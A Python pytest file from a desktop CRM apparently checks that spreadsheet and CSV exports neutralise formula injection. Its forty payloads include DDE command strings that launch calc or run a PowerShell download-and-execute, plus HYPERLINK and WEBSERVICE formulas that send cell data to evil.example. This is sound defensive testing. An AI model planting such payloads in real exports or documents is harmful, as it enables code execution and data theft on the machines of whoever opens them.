"""Threat T8 of security.md: forty payloads go out and through LibreOffice, and none is a formula."""

from __future__ import annotations

import csv
import shutil
import subprocess

import openpyxl
import pytest

from loancrm_desktop.services import customers
from loancrm_desktop.services.exchange import exporting, importing, sheets
from loancrm_desktop.services.exchange.export_consent import Consent
from loancrm_desktop.services.exchange.export_tables import ExportWish
from loancrm_desktop.services.exchange.exporting import Target
from loancrm_desktop.services.exchange.import_plan import ImportPlan
from loancrm_desktop.services.exchange.seen_rows import SeenList
from loancrm_desktop.services.lists import ListQuery

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("http://evil.example/?x="&A1,"看这里")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A"&ROW())',
    "=SUM(A1:A9)*cmd|' /C calc'!A0",
    "= 1+1",
    "==1",
    "=-1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "++1",
    "-1-1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "＝1+1",
    "＋1+1",
    "－1-1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'1",
    ";=1+1",
    ",=1+1",
    '"=1+1',
    '",=1+1,"',
    "名字=1+1",
    "|calc",
    "%0A-3+3+cmd|' /C calc'!D2",
)
CALC = shutil.which("soffice")
LEADS = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture
def filled(office, owner):
    for payload in PAYLOADS:
        name = payload if len(payload) > 1 else f"{payload}甲"
        values = {"name": name, "company": payload, "wechat": payload, "tags": [payload[:40]]}
        office.do(owner, customers.add, values=values, open_deal=False)


def take_out(office, owner, out, wish):
    form = out.suffix.lstrip(".")
    exporting.export(office, owner, Target(out, form), wish, Consent(unattended=True))


WISHES = {
    "everything": ExportWish("customer"),
    "seen": SeenList(ListQuery(), ("company", "wechat", "tags")),
}


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("wish", WISHES.values(), ids=WISHES)
def test_t8_no_cell_of_a_workbook_is_a_formula(office, owner, filled, tmp_path, wish):
    take_out(office, owner, tmp_path / "out.xlsx", wish)
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet for cell in row}
    assert "f" not in kinds
    assert not [cell for sheet in book for row in sheet for cell in row if cell.hyperlink]


@pytest.mark.parametrize("wish", WISHES.values(), ids=WISHES)
def test_t8_no_cell_of_a_csv_begins_like_a_formula(office, owner, filled, tmp_path, wish):
    take_out(office, owner, tmp_path / "out.csv", wish)
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [text for row in csv.reader(file) for text in row]
    assert not [text for text in cells if text.startswith(LEADS)]


@pytest.mark.skipif(CALC is None, reason="LibreOffice is not on this computer")
def test_t8_through_libreoffice_there_is_not_one_formula_cell(office, owner, filled, tmp_path):
    for suffix in ("xlsx", "csv"):
        take_out(office, owner, tmp_path / f"out_{suffix}.{suffix}", WISHES["everything"])
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    command = [str(CALC), profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path)]
    for suffix, read_as in (("xlsx", ()), ("csv", ("--infilter=CSV:44,34,76,1",))):  # 76: UTF-8
        run = [*command, *read_as, str(tmp_path / f"out_{suffix}.{suffix}")]
        subprocess.run(run, check=True, capture_output=True, timeout=180)
    if not (tmp_path / "out_csv.fods").is_file():
        pytest.skip("this computer's LibreOffice comes without its spreadsheet part")
    for suffix in ("xlsx", "csv"):
        text = (tmp_path / f"out_{suffix}.fods").read_text("utf-8")
        assert text.count("名字=1+1"), "the payloads are in it"
        assert "table:formula" not in text, suffix


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_t8_what_was_made_harmless_comes_back_as_it_was(office, owner, filled, tmp_path, suffix):
    take_out(office, owner, tmp_path / f"out.{suffix}", WISHES["everything"])
    table = sheets.read_table(tmp_path / f"out.{suffix}", None).chosen
    plan = ImportPlan(office.ask(owner, importing.guess, table), duplicates="keep")
    report = office.do(owner, importing.run, table, plan)
    assert report.created == len(PAYLOADS), report.problems
    for number in range(1, len(PAYLOADS) + 1):
        first, again = (
            office.ask(owner, customers.values, customer_id=each).values
            for each in (number, number + len(PAYLOADS))
        )
        for key in ("name", "company", "wechat"):
            assert again[key] == first[key]
